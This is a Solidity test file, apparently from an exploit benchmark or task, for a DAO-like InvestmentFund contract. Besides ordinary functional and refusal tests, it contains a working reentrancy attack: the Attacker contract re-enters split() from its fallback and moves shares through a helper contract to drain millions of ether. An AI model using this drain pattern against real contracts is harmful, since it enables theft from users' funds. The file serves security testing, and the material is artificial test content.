pragma solidity ^0.4.24;

import "./InvestmentFund.sol";

// assay-canary-ea994e7f-568f-44f5-be9d-087a3a1439ec

interface Vm {
    function deal(address who, uint256 balance) external;
    function warp(uint256 time) external;
    function prank(address sender) external;
    function expectRevert() external;
    function expectRevert(bytes reason) external;
}

contract Sums {
    using SafeMath for uint256;

    function mul(uint256 a, uint256 b) public pure returns (uint256) {
        return a.mul(b);
    }

    function div(uint256 a, uint256 b) public pure returns (uint256) {
        return a.div(b);
    }

    function sub(uint256 a, uint256 b) public pure returns (uint256) {
        return a.sub(b);
    }

    function add(uint256 a, uint256 b) public pure returns (uint256) {
        return a.add(b);
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address constant ALICE = address(0xA11CE);
    address constant BOB = address(0xB0B);
    address constant PROJECT = address(0x9801);
    uint constant POOL = 11500000 ether;
    uint constant STAKE = 35000 ether;

    InvestmentFund internal fund;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(1465000000);
        fund = new InvestmentFund(10);

        vm.deal(ALICE, POOL - 500000 ether - STAKE);
        vm.prank(ALICE);
        fund.buyShares.value(POOL - 500000 ether - STAKE)();
        vm.deal(BOB, 500000 ether);
        vm.prank(BOB);
        fund.buyShares.value(500000 ether)();

        // the attacker is an ordinary shareholder who bought shares during the offering
        mallory = new Attacker(fund);
        vm.deal(address(mallory), STAKE);
        mallory.join(STAKE);

        vm.warp(1465000000 + 11 days);
        vm.deal(PROJECT, 1150 ether);
        vm.prank(PROJECT);
        fund.depositReward.value(1150 ether)();
    }

    /// Bob transfers shares, claims a reward, and leaves with principal and reward; the rest stays with the others.
    function test_Regular() public {
        address successor = address(0x5CC);
        uint before = BOB.balance;
        vm.prank(BOB);
        uint claimed = fund.claimReward();
        require(claimed == 50 ether && BOB.balance == before + 50 ether);

        vm.prank(BOB);
        fund.transferShares(ALICE, 100000 ether);
        require(fund.shares(BOB) == 400000 ether);

        vm.deal(PROJECT, 115 ether);
        vm.prank(PROJECT);
        fund.depositReward.value(115 ether)();

        fund.fundProject(PROJECT, POOL / 10);
        vm.prank(BOB);
        require(fund.split(successor));
        require(successor.balance == 360000 ether);
        require(BOB.balance == before + 54 ether);
        require(fund.shares(BOB) == 0 && fund.credited(BOB) == 0);
        require(fund.totalShares() == POOL - 400000 ether);
        require(fund.capital() == address(fund).balance);

        vm.prank(BOB);
        require(!address(fund).call(abi.encodeWithSignature("split(address)", successor)));
    }

    function test_RefusesStrangers() public {
        RewardAccount account = fund.rewardAccount();
        vm.prank(BOB);
        vm.expectRevert();
        account.pay(BOB, 1 ether);
        vm.prank(BOB);
        vm.expectRevert();
        fund.fundProject(BOB, 1 ether);
    }

    function test_RefusesBeforeTheOfferingEnds() public {
        vm.warp(1465000000 + 9 days);
        vm.deal(PROJECT, 1 ether);
        vm.prank(PROJECT);
        vm.expectRevert();
        fund.depositReward.value(1 ether)();
        vm.expectRevert();
        fund.fundProject(PROJECT, 1 ether);
        vm.prank(BOB);
        vm.expectRevert();
        fund.transferShares(ALICE, 1 ether);
        vm.prank(BOB);
        vm.expectRevert();
        fund.split(address(0x5CC));
        vm.prank(BOB);
        vm.expectRevert();
        fund.buyShares();
    }

    function test_RefusesLatecomers() public {
        vm.deal(BOB, 1 ether);
        vm.prank(BOB);
        vm.expectRevert();
        fund.buyShares.value(1 ether)();
    }

    function test_RefusesRewardsForNobody() public {
        InvestmentFund empty = new InvestmentFund(0);
        vm.deal(address(this), 1 ether);
        vm.expectRevert("nobody to reward");
        empty.depositReward.value(1 ether)();
    }

    function test_RefusesMoreThanThereIs() public {
        vm.deal(address(fund), POOL + 1 ether); // ether that came uncalled belongs to no share
        vm.expectRevert("above the capital");
        fund.fundProject(PROJECT, POOL + 1);
        vm.prank(BOB);
        vm.expectRevert("too few shares");
        fund.transferShares(ALICE, 500000 ether + 1);
    }

    function test_RefusesNobodyAsRecipient() public {
        vm.prank(BOB);
        vm.expectRevert();
        fund.transferShares(address(0), 1 ether);
        vm.prank(BOB);
        vm.expectRevert("bad successor");
        fund.split(address(0));
        vm.prank(BOB);
        vm.expectRevert("bad successor");
        fund.split(address(fund));
        vm.expectRevert("no shares");
        fund.split(address(0x5CC));
    }

    /// This contract takes no ether: not as a project, a successor or a shareholder.
    function test_RefusesWhatCannotBePaid() public {
        vm.expectRevert();
        fund.fundProject(address(this), 1 ether);
        vm.prank(BOB);
        vm.expectRevert();
        fund.split(address(this));
        vm.expectRevert();
        fund.claimReward();

        vm.warp(1465000000);
        vm.deal(address(this), 1 ether);
        fund.buyShares.value(1 ether)();
        vm.warp(1465000000 + 11 days);
        vm.expectRevert();
        fund.split(address(0x5CC));
    }

    function test_RefusesSums() public {
        Sums sums = new Sums();
        vm.expectRevert("mul overflow");
        sums.mul(uint256(-1), 2);
        vm.expectRevert("div by zero");
        sums.div(1, 0);
        vm.expectRevert("sub overflow");
        sums.sub(1, 2);
        vm.expectRevert("add overflow");
        sums.add(uint256(-1), 1);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint before = address(mallory).balance;
        exploit();
        require(address(mallory).balance >= before + 3600000 ether);
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// Holds the attacker's shares while the outermost call clears its account.
contract Drawer {
    address internal owner = msg.sender;

    function giveBack(InvestmentFund fund) public {
        require(msg.sender == owner);
        fund.transferShares(owner, fund.shares(address(this)));
    }
}

/// Splits again from inside the reward payment, then starts over with the same shares.
contract Attacker {
    uint constant LEVELS = 30;
    uint constant ROUNDS = 4;

    InvestmentFund internal fund;
    Drawer internal drawer;
    uint internal level;

    constructor(InvestmentFund fund_) public {
        fund = fund_;
        drawer = new Drawer();
    }

    function join(uint amount) public {
        fund.buyShares.value(amount)();
    }

    function run() public {
        for (uint round = 0; round < ROUNDS && fund.shares(address(this)) > 0; round++) {
            level = 1;
            fund.split(address(this));
            if (round + 1 < ROUNDS) drawer.giveBack(fund);
        }
    }

    function () public payable {
        if (msg.sender != address(fund.rewardAccount())) return;
        if (level < LEVELS) {
            level++;
            // a refusal is swallowed: the outer call must not fail with the inner one
            address(fund).call(abi.encodeWithSignature("split(address)", address(this)));
        } else {
            fund.transferShares(address(drawer), fund.shares(address(this)));
        }
    }
}
